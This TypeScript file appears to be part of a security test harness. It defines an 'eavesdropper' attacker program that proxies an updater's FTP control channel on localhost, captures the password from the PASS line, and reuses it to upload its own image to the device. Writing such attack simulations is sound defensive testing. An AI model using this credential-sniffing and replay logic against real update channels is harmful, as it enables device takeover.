import { silentLogger } from '@postern/core';
import { createTamperingProxy } from '../../../tampering/index.ts';
import type { Endpoint } from '../../../tcp/listener.ts';
import { intrude } from '../ftp-caller.ts';
import type { AttackerProgram } from '../program.ts';

/** What an eavesdropper is told. */
export interface EavesdropperKnowledge {
  readonly userName: string;
  /** What it wants to see on the device. */
  readonly image: Uint8Array;
  /**
   * When it uses the password that it has heard. `PASS`, `STOR`: it keeps the first such line of the updater back until
   * it is done. `told`: when it is told so.
   */
  readonly strikeAt: 'PASS' | 'STOR' | 'told';
}

/** On the bulk path: hears the password in the updater's login, and uses it. */
export const eavesdropper: AttackerProgram = async ({ channel, clock, knows }) => {
  const { userName, image, strikeAt } = knows as EavesdropperKnowledge;
  const target = { host: '127.0.0.1', port: 0 };
  let victim: Endpoint = target;
  let password = '';
  let struck = false;
  const strike = async (): Promise<void> => {
    struck = true;
    channel.say('report', await intrude(victim, { userName, password }, image));
  };
  const proxy = await createTamperingProxy({
    clock,
    logger: silentLogger,
    target,
    onControlLine: async (from, line) => {
      if (from !== 'client') return;
      if (line.startsWith('PASS ')) password = line.slice('PASS '.length);
      if (!struck && line.startsWith(strikeAt)) await strike();
    },
  });
  channel.say('listening', { ftp: proxy.port });
  const { bulk, other } = await channel.hear<{ bulk: Endpoint; other?: Endpoint }>('lead-to');
  target.port = bulk.port;
  victim = other ?? bulk;
  if (strikeAt !== 'told') return;
  await channel.hear('strike');
  await strike();
};
